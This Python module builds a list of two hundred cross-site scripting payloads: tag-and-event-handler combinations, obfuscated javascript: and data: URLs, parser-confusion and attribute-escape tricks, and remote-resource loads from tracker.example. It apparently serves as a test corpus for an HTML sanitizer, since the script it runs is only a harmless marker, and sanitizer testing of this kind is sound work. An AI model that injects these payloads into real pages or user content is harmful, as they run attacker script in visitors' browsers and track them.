"""Two hundred ways to run a script in whoever reads a text."""

from itertools import islice
from typing import Final

_RUN: Final = "window.__xss=1"
_EVENTS: Final = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend "
    "ontransitionend onpointerenter ontoggle onbegin onstart onwheel onscroll oncopy onpaste "
    "onbeforeinput oncontentvisibilityautostatechange onsecuritypolicyviolation"
).split()
_TAGS: Final = (
    "img src=x",
    "svg",
    "video src=x autofocus tabindex=1",
    "details open",
    "body",
    "marquee",
    "input autofocus",
    "a href=# autofocus",
)
_URLS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"\x01javascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    "//tracker.example/x",
    f"view-source:javascript:{_RUN}",
    f"blob:{_RUN}",
)
_HOLDERS: Final = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
)
_ODD: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><img src=x onerror={_RUN}></template>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<form action="javascript:{_RUN}"><button autofocus>x</button></form>',
    f'<button formaction="javascript:{_RUN}">x</button>',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    f'<base href="javascript:{_RUN}//">',
    '<link rel=stylesheet href="http://tracker.example/x.css">',
    "<style>@import 'http://tracker.example/x.css';</style>",
    "<p style=\"background:url('http://tracker.example/x')\">x</p>",
    '<img src="http://tracker.example/x.png">',
    '<picture><source srcset="http://tracker.example/x.png"><img></picture>',
    '<video poster="http://tracker.example/x.png"></video>',
    '<input type=image src="http://tracker.example/x.png">',
    f"<p><!--><img src=x onerror={_RUN}>--></p>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"<a data-mention='x\" onclick=\"{_RUN}'>x</a>",
    f'<span data-mention="x&quot; onclick=&quot;{_RUN}">x</span>',
    f"<p title='`><img src=x onerror={_RUN}>'>x</p>",
    f"<xss id=x tabindex=1 onfocus={_RUN}></xss>",
    f"<select><style><img src=x onerror={_RUN}></style></select>",
    f"<textarea><img src=x onerror={_RUN}></textarea><img src=x onerror={_RUN}>",
)


def payloads() -> list[str]:
    """Two hundred, each other than the others."""
    tagged = (f"<{tag} {event}={_RUN}>" for event in _EVENTS for tag in _TAGS)
    urls = (holder.format(url) for url in _URLS for holder in _HOLDERS)
    return [*_ODD, *urls, *islice(tagged, 200 - len(_ODD) - len(_URLS) * len(_HOLDERS))]
